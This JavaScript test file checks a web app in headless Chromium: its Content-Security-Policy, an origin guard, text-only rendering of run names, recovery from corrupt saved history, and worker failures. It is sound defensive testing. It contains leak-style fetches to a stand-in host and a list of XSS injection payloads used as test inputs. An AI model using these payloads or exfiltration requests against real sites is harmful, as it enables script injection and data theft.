// Reliability and security of the built page in headless Chromium: the Content-Security-Policy
// is in force (foreign fetch, image and script blocked, inline script not run); the shared
// origin guard (guard.mjs) catches a request that leaves the origin; run names carrying markup
// or script show as text; a worker that throws or is killed fails only its own run while the
// others finish a 10⁶-step run with bounded page memory.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { guardedContext, guardedPage, takeForeignRequests } from './guard.mjs';
import { baseState, linkOf } from './share-link.mjs';
import { browserSuite } from './harness.mjs';

const suite = browserSuite({ prefix: '/app/', chromiumArgs: ['--js-flags=--expose-gc'] });

/** Opens the page (optionally at a hash), collecting page errors, dialogs and CSP reports. */
async function open(hash = '', { cores } = {}) {
  const page = await guardedPage(suite.browser, suite.server.url, {
    viewport: { width: 1280, height: 900 },
  });
  const problems = [];
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  page.on('dialog', (d) => {
    problems.push(`dialog: ${d.message()}`);
    d.dismiss().catch(() => undefined);
  });
  await page.addInitScript((cores) => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    // More workers than this machine's cores would give, so runs land on different workers.
    if (cores) Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => cores });
  }, cores ?? 0);
  await page.goto(`${suite.server.url}${hash ? `#${hash}` : ''}`);
  await page.getByRole('button', { name: /Start/ }).waitFor();
  return { page, problems };
}

test('the CSP is in force: foreign fetch, image and script are blocked, inline script does not run', async () => {
  const { page, problems } = await open();
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
  assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'|https?:|\*/);
  const result = await page
    .evaluate(async () => {
      let fetchBlocked = false;
      try {
        await fetch('https://example.com/leak?data=1');
      } catch {
        fetchBlocked = true;
      }
      const img = document.createElement('img');
      img.src = 'https://example.com/pixel.png';
      document.body.append(img);
      const foreignScript = document.createElement('script');
      foreignScript.src = 'https://example.com/tracker.js';
      document.body.append(foreignScript);
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.body.append(inline);
      await new Promise((r) => setTimeout(r, 800));
      return { fetchBlocked, inlineRan: window.__inlineRan === true, violations: window.__csp };
    })
    .catch((error) => ({ error: String(error) }));
  assert.equal(result.error, undefined, result.error);
  assert.equal(result.fetchBlocked, true, 'the foreign fetch was blocked');
  assert.equal(result.inlineRan, false, 'injected inline script did not run');
  const joined = result.violations.join(' | ');
  for (const directive of ['connect-src', 'img-src', 'script-src-elem']) {
    assert.match(joined, new RegExp(`${directive} https://example.com`), joined);
  }
  assert.match(joined, /script-src-elem inline/, joined);
  // The CSP stopped them before the network: the origin guard saw nothing.
  assert.deepEqual(takeForeignRequests(), []);
  assert.deepEqual(problems, []);
  await page.close();
});

test('the origin guard catches a request that leaves the origin', async () => {
  // Without the CSP (bypassed here on purpose) a foreign fetch reaches the network layer,
  // where the guard aborts and records it: the check that every e2e test relies on can fail.
  const context = await guardedContext(suite.browser, suite.server.url, { bypassCSP: true });
  const page = await context.newPage();
  await page.goto(suite.server.url);
  const failed = await page.evaluate(() =>
    fetch('https://example.com/leak').then(
      () => false,
      () => true,
    ),
  );
  assert.equal(failed, true);
  assert.deepEqual(takeForeignRequests(), ['https://example.com/leak']);
  await context.close();
});

// Each payload is a run name (at most 60 characters). None may run, none may add an element,
// and each must be shown literally.
const XSS_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '"><svg onload=window.__xss=3>',
  "'><iframe srcdoc='<script>parent.__xss=4</script>'>",
  '</textarea><b id=injected>bold</b>',
  'javascript:window.__xss=5',
  '{{constructor.constructor("window.__xss=6")()}}',
  '${window.__xss=7}',
  '&lt;b&gt;entity&lt;/b&gt; &amp;',
  '<a href="javascript:alert(1)">link</a>',
  '<style>body{display:none}</style>',
  '\u202eRTL \u0000 nul',
];

test('run names carrying markup or script are shown as text, never run', async () => {
  const colours = ['#1f77b4', '#d62728', '#2ca02c', '#ff7f0e', '#9467bd', '#8c564b'];
  for (let from = 0; from < XSS_PAYLOADS.length; from += 6) {
    const payloads = XSS_PAYLOADS.slice(from, from + 6);
    const state = baseState({
      steps: 20,
      runs: payloads.map((name, i) => ({
        id: `x${i}`,
        name,
        color: colours[i],
        visible: true,
        optimizer: { name: 'adam', params: { lr: 0.01 } },
        schedule: { name: 'constant', params: {} },
        transforms: [],
      })),
    });
    const { page, problems } = await open(linkOf(state));
    await page.getByRole('button', { name: /Start/ }).click();
    await page.waitForFunction(
      (n) =>
        [...document.querySelectorAll('.comparison .status')].filter((c) =>
          /done/.test(c.textContent ?? ''),
        ).length === n,
      payloads.length,
      { timeout: 60_000 },
    );
    const seen = await page.evaluate(() => ({
      xss: window.__xss,
      names: [...document.querySelectorAll('input.run-name')].map((i) => i.value),
      table: document.querySelector('.comparison')?.textContent ?? '',
      injected: document.querySelectorAll(
        '#injected, iframe, svg[onload], img[onerror], [onerror], [onload], body style, a[href^="javascript"]',
      ).length,
      scripts: [...document.scripts].map((s) => s.src || 'inline'),
    }));
    assert.equal(seen.xss, undefined, 'a payload ran');
    assert.equal(seen.injected, 0, 'a payload added an element');
    assert.ok(
      seen.scripts.every((s) => s.startsWith(suite.server.url)),
      `scripts: ${seen.scripts}`,
    );
    assert.deepEqual(seen.names, payloads, 'names shown literally in the run cards');
    for (const payload of payloads) {
      const printable = payload.replaceAll('\u0000', '');
      assert.ok(
        seen.table.includes(printable.slice(0, 20)) || seen.table.includes(payload.slice(0, 20)),
        `table shows ${payload}`,
      );
    }
    assert.deepEqual(problems, []);
    await page.close();
  }
});

test('a corrupt saved history is skipped with a message, never a blank page', async () => {
  const { page, problems } = await open();
  // What a broken disk, an extension or another version could leave in the history store.
  await page.evaluate(
    () =>
      new Promise((resolve, reject) => {
        const r = indexedDB.open('descent', 1);
        r.onupgradeneeded = () => r.result.createObjectStore('history', { keyPath: 'id' });
        r.onerror = () => reject(new Error('indexedDB.open failed', { cause: r.error }));
        r.onsuccess = () => {
          const tx = r.result.transaction('history', 'readwrite');
          const store = tx.objectStore('history');
          store.put({ id: 'junk1', kind: 'runs', name: 42 });
          store.put({
            id: 'junk2',
            kind: 'sweep',
            state: '<img src=x onerror="window.__xss=1">',
            results: 'x',
          });
          store.put({ id: 'junk3' });
          tx.oncomplete = () => {
            r.result.close();
            resolve();
          };
          tx.onerror = () => reject(new Error('the transaction failed', { cause: tx.error }));
        };
      }),
  );
  await page.reload();
  await page.getByRole('button', { name: /Start/ }).waitFor();
  await page.waitForFunction(
    () => /3 saved entries were unreadable/.test(document.body.textContent ?? ''),
    null,
    {
      timeout: 20_000,
    },
  );
  // The rest of the page works: the default comparison trains to the end.
  await page.getByRole('button', { name: /Start/ }).click();
  await page.waitForFunction(
    () =>
      [...document.querySelectorAll('.comparison .status')].some((c) =>
        /done/.test(c.textContent ?? ''),
      ),
    null,
    { timeout: 60_000 },
  );
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.deepEqual(problems, []);
  await page.close();
});

/** The page's live JS heap after a full garbage collection. */
/**
 * The page's JS heap after full collections. Freed typed arrays' backing stores are released
 * after the collection (measured: one gc() read anywhere from 66 to 156 MB for the same live
 * set), so this collects until two readings agree and takes the lowest.
 */
function usedHeap(page) {
  return page.evaluate(async () => {
    let lowest = Infinity;
    let previous = -1;
    for (let i = 0; i < 8; i++) {
      window.gc();
      await new Promise((resolve) => setTimeout(resolve, 100));
      const used = performance.memory.usedJSHeapSize;
      lowest = Math.min(lowest, used);
      if (Math.abs(used - previous) < 1e6) break;
      previous = used;
    }
    return lowest;
  });
}

test('a worker that throws or is killed fails its own run; the others finish a 10^6-step run', async () => {
  const state = baseState({ steps: 1_000_000 });
  const { page, problems } = await open(linkOf(state), { cores: 5 });
  const heapBefore = await usedHeap(page);
  // Start, and fail two runs' workers at once (a 10⁶-step Rosenbrock run takes only seconds):
  // four workers for "5 cores", so each run has a worker of its own.
  const failed = await page.evaluate(() => {
    const start = [...document.querySelectorAll('button')].find((b) =>
      /Start/.test(b.textContent ?? ''),
    );
    start.click();
    return [
      window.__descentTest.failWorker('r2', 'kill'),
      window.__descentTest.failWorker('r3', 'throw'),
    ];
  });
  assert.deepEqual(failed, [true, true]);
  const deadline = Date.now() + 240_000;
  let statuses;
  for (;;) {
    statuses = await page.$$eval('.comparison .status', (cells) =>
      cells.map((c) => c.textContent ?? ''),
    );
    if (/done/.test(statuses[0] ?? '') || Date.now() > deadline) break;
    await page.waitForTimeout(500);
  }
  assert.match(statuses[0], /done \(1000000\)/, statuses.join(' | '));
  assert.match(statuses[1], /failed: the training worker was stopped/, statuses.join(' | '));
  assert.match(statuses[2], /failed: .*the worker threw/, statuses.join(' | '));
  // Page memory stays bounded after a run logged 10⁶ rows (the series thins itself): a
  // Rosenbrock row has 32 columns, so unthinned they alone would hold 10⁶ × 32 × 8 B = 256 MB.
  // Measured: +35 MB (the thinned series, 32 × 65,537 rows, and the run history's copy, 32 ×
  // 62,500 rows). The run cards' schedule previews are condensed by the core; at one rate per
  // step they held 3 × 8 MB more before the run started.
  const heapAfter = await usedHeap(page);
  const grown = Math.round((heapAfter - heapBefore) / 1e6);
  console.log(
    `     JS heap after a full collection: ${Math.round(heapBefore / 1e6)} MB before, ${Math.round(heapAfter / 1e6)} MB after`,
  );
  assert.ok(grown < 64, `the page's heap grew by ${grown} MB`);
  assert.ok(heapBefore < 30e6, `the page held ${Math.round(heapBefore / 1e6)} MB before the run`);
  assert.deepEqual(problems, []);
  await page.close();
});
